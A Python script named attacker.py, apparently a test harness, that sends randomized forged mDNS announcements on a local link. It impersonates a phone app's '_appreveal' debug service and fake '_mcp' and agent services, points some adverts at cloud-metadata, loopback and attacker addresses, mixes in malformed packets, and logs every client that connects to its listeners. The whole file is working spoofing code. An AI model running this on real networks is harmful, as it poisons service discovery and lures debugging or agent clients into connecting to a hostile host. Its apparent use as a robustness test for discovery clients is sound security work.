"""A host on the link that sends random forged mDNS packets and reports clients that connect to it.

  attacker.py ADDRESS VICTIM APP_PORT BUNDLE BOOT SEED

The packets imitate the app at APP_PORT of the broker's phone in every way that mDNS allows. Prints "packets COUNT" every 100 packets
and "touched PORT" for each connection to it. Runs until it is killed.
"""
import random
import select
import socket
import struct
import sys
import time

ADDRESS, VICTIM, APP_PORT, BUNDLE, BOOT, SEED = sys.argv[1:]
APP_PORT = int(APP_PORT)
PTR, TXT, SRV, A = 12, 16, 33, 1
GROUP = ("224.0.0.251", 5353)
KINDS = ("_appreveal", "_debug", "_mcp", "_openagents")
# The attacker, the broker, cloud metadata, loopback, an off-link address.
ADDRESSES = (ADDRESS, ADDRESS, ADDRESS, VICTIM, "169.254.169.254", "127.0.0.1", "192.0.2.7")

random.seed(int(SEED))
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
sender.bind(("", 5353))
sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ADDRESS))
sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)


def name(*labels):
    return b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"


def txt(*items):
    return b"".join(bytes([len(item)]) + item.encode() for item in items)


def send(records):
    packet = struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0)
    for labels, kind, ttl, data in records:
        packet += name(*labels) + struct.pack(">HHIH", kind, 1 if kind == PTR else 0x8001, ttl, len(data)) + data
    sender.sendto(packet, GROUP)


def advert(instance, kind, host, port, items, address, ttl=120):
    whole = (instance, kind, "_tcp", "local")
    send([((kind, "_tcp", "local"), PTR, ttl, name(*whole)),
          (whole, SRV, ttl, struct.pack(">HHH", 0, 0, port) + name(host, "local")),
          (whole, TXT, ttl, txt(*items)),
          ((host, "local"), A, ttl, socket.inet_aton(address))])


def twin():
    """Announces the phone's app at another address."""
    items = ["bundleId=" + BUNDLE, "version=1", "transport=streamable-http", "auth=session-token"]
    if random.random() < 0.5:
        items.append("boot=" + BOOT)
    advert("AppReveal-" + BUNDLE, "_appreveal", random.choice(("iphone", "phone", "thief")), APP_PORT, items,
           random.choice(ADDRESSES), random.choice((0, 1, 120, 120)))


def other_app():
    """Announces one of many apps."""
    number = random.randrange(300)
    advert("app-%d" % number, random.choice(KINDS), "host-%d" % (number % 40), random.choice((1, 22, 80, APP_PORT, 9876, 8765)),
           ["bundleId=com.example.app%d" % number], random.choice(ADDRESSES), random.choice((0, 120)))


def names():
    """Announces unresolvable names."""
    kind = random.choice(KINDS)
    send([((kind, "_tcp", "local"), PTR, 120, name("name-%d" % random.randrange(3000), kind, "_tcp", "local")) for _ in range(10)])


def noise():
    sender.sendto(struct.pack(">HHHHHH", 0, 0x8400, 0, random.randrange(9), 0, 0) + random.randbytes(random.randrange(200)), GROUP)


listeners = []
for port in {APP_PORT, 9876, 8765, 80}:
    listener = socket.create_server(("", port), backlog=64)
    listener.setblocking(False)
    listeners.append(listener)
count, began = 0, time.monotonic()
while True:
    random.choice((twin, twin, other_app, names, noise))()
    count += 1
    if count % 100 == 0:
        print("packets", count, flush=True)
    for listener in select.select(listeners, [], [], max(0, began + count * 0.05 - time.monotonic()))[0]:
        connection, peer = listener.accept()
        print("touched", listener.getsockname()[1], "by", peer[0], flush=True)
        connection.close()
